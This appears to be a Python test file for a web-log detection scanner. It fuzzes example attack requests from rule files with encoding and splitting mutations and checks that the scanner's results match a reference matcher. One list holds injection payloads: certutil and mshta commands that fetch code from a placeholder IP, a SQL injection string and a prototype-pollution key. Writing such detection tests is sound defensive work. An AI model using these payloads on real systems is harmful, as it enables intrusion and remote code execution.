"""The filters leave nothing out: scan finds what PCRE2 finds on every line, where parameters are cut up, joined,
encoded and swapped so that one ends where nobody expects it."""
import base64
import pathlib
import random
import re
import subprocess

from conftest import SEKISHO

RULES = pathlib.Path(__file__).resolve().parents[2] / "rules"
MARKS = ["&", "=", "?", "%26", "%3d", "%3D", "%2526", "%00", "//", "..", "\\x22", "\\x26", "%5c", "\\x5c", "%0a", "%0d",
         "+", "%2b", "&&", "=&", "&=", "/*", "*/", "&lt;", "%u0026", "&#61;", ".php", "%2f"]  # fmt: skip
NAMES = [";certutil -f http://203.0.113.9/x", "|mshta http://203.0.113.9/", "$gt", "__proto__.polluted", "' or 1=1-- -"]


def lines_of_the_pack():
    """The examples that the web rules carry."""
    out = []
    for f in sorted((RULES / "web").glob("*.yml")):
        out += re.findall(r"^\s+- '(\d.* HTTP/1\.[01]\" .*)'$", f.read_text(), re.M)
    return [line.replace("''", "'") for line in out]


def percent(text):
    return "".join(f"%{b:02x}" for b in text.encode())


def tangle(r, target, other):
    query = other.split("?", 1)[-1]
    at = r.randrange(len(target) + 1)
    how = r.randrange(10)
    if how == 0:
        return target + "&" + query
    if how == 1:
        return target.replace("%20", "+", r.randrange(3))
    if how == 2:
        return target[:at] + r.choice(MARKS) + target[at:]
    if how == 3:
        return target[:at]
    if how == 4:
        return target + "&x=" + query.split("=", 1)[-1].split("&")[0] + "&y=1"
    if how == 5:
        return "/p?" + query.split("=", 1)[-1] + "=" + query
    if how == 6:
        return target[:at] + percent(target[at : at + r.randrange(9)]) + target[at + 8 :]
    if how == 7:
        return "/b?d=" + base64.b64encode(query.encode()).decode() + "&e=2"
    if how == 8:  # as a name
        return "/b?" + base64.urlsafe_b64encode(r.choice(NAMES).encode()).decode().rstrip("=") + r.choice(["=1", ""]) + "&e=%32"
    return "/a?" + "&".join(r.sample(query.split("&"), r.randrange(len(query.split("&"))) + 1)) + r.choice(MARKS)


def test_scan_finds_what_every_rule_on_every_line_finds(tmp_path):
    r = random.Random(11)
    lines = lines_of_the_pack()
    assert len(lines) > 300
    log = tmp_path / "access.log"
    with open(log, "w") as f:
        for _ in range(8000):
            head, request, tail = r.choice(lines).split('"', 2)
            target = request.split(" ")[1]
            other = r.choice(lines).split('"', 2)[1].split(" ")[1]
            f.write(f'{head}"GET {tangle(r, target, other).replace(" ", "%20")} HTTP/1.1"{tail}\n')
    args = [SEKISHO, "scan", "--parser", "combined", "--rules", str(RULES)]
    found = subprocess.run([*args, str(log)], capture_output=True, check=True).stdout
    expected = subprocess.run([*args, "--reference", str(log)], capture_output=True, check=True).stdout
    assert found.count(b'"detections"') > 2000
    assert found.splitlines() == expected.splitlines()
